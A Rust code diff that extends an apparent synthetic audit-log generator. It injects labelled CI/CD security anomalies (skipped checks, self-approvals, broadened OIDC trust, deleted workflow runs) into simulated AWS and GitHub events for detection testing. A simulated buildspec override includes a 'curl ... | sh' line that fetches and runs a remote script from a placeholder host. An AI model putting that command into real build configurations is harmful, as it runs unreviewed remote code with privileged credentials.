@@ -37,6 +37,30 @@ pub enum Anomaly {
     ForeignNetwork,
     /// A build triggered by an unusual actor with checks skipped.
     UnusualTrigger,
+    /// A deploy while a required check was skipped ([`super::bypasses`]).
+    ChecksBypassed,
+    /// A CodeBuild build started by hand with its buildspec overridden.
+    BuildOverride,
+    /// A CodePipeline approval given by the one who started the execution.
+    SelfApproval,
+    /// The scan and approval actions removed from a pipeline definition.
+    ChecksRemoved,
+    /// The inbound transition of a pipeline's approval stage disabled.
+    TransitionDisabled,
+    /// A deploy role's OIDC trust opened to every repository of the organisation.
+    TrustBroadened,
+    /// A `pull_request_target` run of a fork's code that got cloud credentials.
+    ForkTargetRun,
+    /// A push past a branch protection (GitHub audit log).
+    ProtectionOverridden,
+    /// A repository ruleset's enforcement disabled (GitHub audit log).
+    RulesetDisabled,
+    /// An environment's protection rule removed (GitHub audit log).
+    EnvironmentUnprotected,
+    /// A workflow run deleted (GitHub audit log).
+    RunDeleted,
+    /// A merge request approval rule deleted (GitLab audit event).
+    ApprovalRuleDeleted,
 }
 
 impl Anomaly {
@@ -57,6 +81,23 @@ impl Anomaly {
         Anomaly::UnusualTrigger,
     ];
 
+    /// SEC11-BP07 bypasses and untrusted input, scheduled after [`Anomaly::ALL`] so that adding
+    /// them moved none of the earlier labels.
+    pub const BYPASSES: [Anomaly; 12] = [
+        Anomaly::ChecksBypassed,
+        Anomaly::BuildOverride,
+        Anomaly::SelfApproval,
+        Anomaly::ChecksRemoved,
+        Anomaly::TransitionDisabled,
+        Anomaly::TrustBroadened,
+        Anomaly::ForkTargetRun,
+        Anomaly::ProtectionOverridden,
+        Anomaly::RulesetDisabled,
+        Anomaly::EnvironmentUnprotected,
+        Anomaly::RunDeleted,
+        Anomaly::ApprovalRuleDeleted,
+    ];
+
     /// The label spelling.
     pub fn as_str(self) -> &'static str {
         match self {
@@ -73,27 +114,39 @@ impl Anomaly {
             Anomaly::RootNoMfa => "root_console_login_without_mfa",
             Anomaly::ForeignNetwork => "foreign_network",
             Anomaly::UnusualTrigger => "unusual_build_trigger",
+            Anomaly::ChecksBypassed => "checks_bypassed",
+            Anomaly::BuildOverride => "codebuild_build_override",
+            Anomaly::SelfApproval => "self_approval",
+            Anomaly::ChecksRemoved => "pipeline_checks_removed",
+            Anomaly::TransitionDisabled => "stage_transition_disabled",
+            Anomaly::TrustBroadened => "oidc_trust_too_broad",
+            Anomaly::ForkTargetRun => "untrusted_trigger_credentials",
+            Anomaly::ProtectionOverridden => "branch_protection_bypassed",
+            Anomaly::RulesetDisabled => "ruleset_weakened",
+            Anomaly::EnvironmentUnprotected => "environment_protection_removed",
+            Anomaly::RunDeleted => "workflow_run_deleted",
+            Anomaly::ApprovalRuleDeleted => "approval_rules_weakened",
         }
     }
 }
 
-/// On which day (0-based) each anomaly happens: spread over the last third.
+/// On which day (0-based) each anomaly happens: each list spread over the last third.
 pub fn schedule(days: u32) -> Vec<(Anomaly, u32)> {
     let first = days - days / 3;
     let span = (days - first).max(1);
-    Anomaly::ALL
-        .iter()
-        .enumerate()
-        .map(|(i, a)| {
-            (
-                *a,
-                (first + (i as u32 * span) / Anomaly::ALL.len() as u32).min(days - 1),
-            )
-        })
-        .collect()
+    let spread = |list: &[Anomaly]| {
+        let n = list.len() as u32;
+        list.iter()
+            .enumerate()
+            .map(|(i, a)| (*a, (first + (i as u32 * span) / n).min(days - 1)))
+            .collect::<Vec<_>>()
+    };
+    let mut out = spread(&Anomaly::ALL);
+    out.extend(spread(&Anomaly::BYPASSES));
+    out
 }
 
-fn find<'a>(ps: &'a [Pipeline], id: &str) -> &'a Pipeline {
+pub(super) fn find<'a>(ps: &'a [Pipeline], id: &str) -> &'a Pipeline {
     ps.iter()
         .find(|p| p.id == id)
         .expect("pipeline in the organisation")
@@ -120,6 +173,10 @@ pub fn inject(day: &mut Day, kind: Anomaly, ps: &[Pipeline], n: usize) -> Label 
     };
     let tooling = Env::Tooling.account().to_string();
     let prod = Env::Prod.account().to_string();
+    if Anomaly::BYPASSES.contains(&kind) {
+        super::bypasses::inject(day, kind, ps, &mut label);
+        return label;
+    }
     match kind {
         Anomaly::UnknownPrincipal => {
             let t = at(13, 5);
@@ -286,7 +343,11 @@ pub fn inject(day: &mut Day, kind: Anomaly, ps: &[Pipeline], n: usize) -> Label 
                     ua: &ua,
                     request: json!({"name": "payments-build", "source": {"type": "CODEPIPELINE", "buildspec": "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s https://paste.example/x.sh | sh\n"},
                     "serviceRole": format!("arn:aws:iam::{tooling}:role/bob-admin-role")}),
-                    response: json!({"project": {"name": "payments-build"}}),
+                    // UpdateProject answers with the whole project as it now is.
+                    response: json!({"project": super::bypasses::payments_build(
+                        "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s https://paste.example/x.sh | sh\n",
+                        "bob-admin-role",
+                    )}),
                     read_only: false,
                     error: None,
                 },
@@ -304,9 +365,8 @@ pub fn inject(day: &mut Day, kind: Anomaly, ps: &[Pipeline], n: usize) -> Label 
                     account: &tooling,
                     ip: &ip,
                     ua: &ua,
-                    request: json!({"pipeline": {"name": "payments-release", "roleArn": format!("arn:aws:iam::{tooling}:role/codepipeline-payments-release"), "version": 5,
-                    "stages": [{"name": "Source"}, {"name": "Build"}, {"name": "Deploy"}]}}),
-                    response: json!({"pipeline": {"name": "payments-release", "version": 5}}),
+                    request: json!({"pipeline": super::bypasses::payments_release(5, false)}),
+                    response: json!({"pipeline": super::bypasses::payments_release(5, false)}),
                     read_only: false,
                     error: None,
                 },
@@ -613,6 +673,14 @@ pub fn inject(day: &mut Day, kind: Anomaly, ps: &[Pipeline], n: usize) -> Label 
             label.description = "the acme/api deploy session's credentials were used from 185.220.101.45, outside GitHub's runners, to read objects and a secret".into();
         }
         Anomaly::UnusualTrigger => {
+            // skip_checks did what it says: the check jobs were skipped.
+            let checks = super::builds::default_checks(web)
+                .into_iter()
+                .map(|c| super::builds::Check {
+                    conclusion: "skipped",
+                    ..c
+                })
+                .collect();
             let tweak = RunTweak {
                 trigger: Some((
                     "workflow_dispatch",
@@ -621,6 +689,7 @@ pub fn inject(day: &mut Day, kind: Anomaly, ps: &[Pipeline], n: usize) -> Label 
                     json!({"skip_checks": "true", "reason": "urgent"}),
                 )),
                 env: Some(Env::Prod),
+                checks: Some(checks),
                 ..Default::default()
             };
             let (run, _, ids) = simulate_run(day, web, at(19, 50), &tweak);
@@ -633,11 +702,24 @@ pub fn inject(day: &mut Day, kind: Anomaly, ps: &[Pipeline], n: usize) -> Label 
                 "acme/web deployed to prod from branch hotfix/tmp by mallory through workflow_dispatch with skip_checks=true",
             );
         }
+        // Injected above by `bypasses::inject`.
+        Anomaly::ChecksBypassed
+        | Anomaly::BuildOverride
+        | Anomaly::SelfApproval
+        | Anomaly::ChecksRemoved
+        | Anomaly::TransitionDisabled
+        | Anomaly::TrustBroadened
+        | Anomaly::ForkTargetRun
+        | Anomaly::ProtectionOverridden
+        | Anomaly::RulesetDisabled
+        | Anomaly::EnvironmentUnprotected
+        | Anomaly::RunDeleted
+        | Anomaly::ApprovalRuleDeleted => {}
     }
     label
 }
 
-fn fill(
+pub(super) fn fill(
     label: &mut Label,
     p: &Pipeline,
     run: &super::builds::Run,
@@ -654,7 +736,13 @@ fn fill(
 }
 
 /// A person's SSO session in an account (the AssumeRoleWithSAML call is recorded too).
-fn human(day: &mut Day, person: &str, account: &str, role: &str, t: i64) -> (Who, String, String) {
+pub(super) fn human(
+    day: &mut Day,
+    person: &str,
+    account: &str,
+    role: &str,
+    t: i64,
+) -> (Who, String, String) {
     let s = Session::new(
         &mut day.rng,
         account,
